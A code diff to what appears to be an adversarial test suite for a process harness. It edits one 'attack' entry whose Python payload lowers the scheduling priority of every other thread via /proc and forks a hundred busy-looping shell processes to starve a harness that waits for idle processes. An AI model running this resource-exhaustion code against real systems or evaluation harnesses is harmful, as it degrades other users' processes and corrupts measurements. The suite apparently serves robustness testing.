@@ -33,7 +33,7 @@ for name, module in list(sys.modules.items()):
 )
 attack(
     "RX-01 RE-05",
-    "two hundred and fifty busy processes, and a harness that is told to wait for idle ones",
+    "a hundred busy processes, and a harness that is told to wait for idle ones",
     onto="right",
     last="""
 import os
@@ -47,9 +47,8 @@ for pid in filter(str.isdigit, os.listdir("/proc")):
         try: os.setpriority(os.PRIO_PROCESS, thread, 19)
         except OSError: pass
 try:
-    for _ in range(250):
-        if os.fork() == 0:
-            while True: pass
+    for _ in range(100):
+        if os.fork() == 0: os.execl("/bin/sh", "sh", "-c", "while :; do :; done")
 except OSError: pass
 while True: pass
 """,
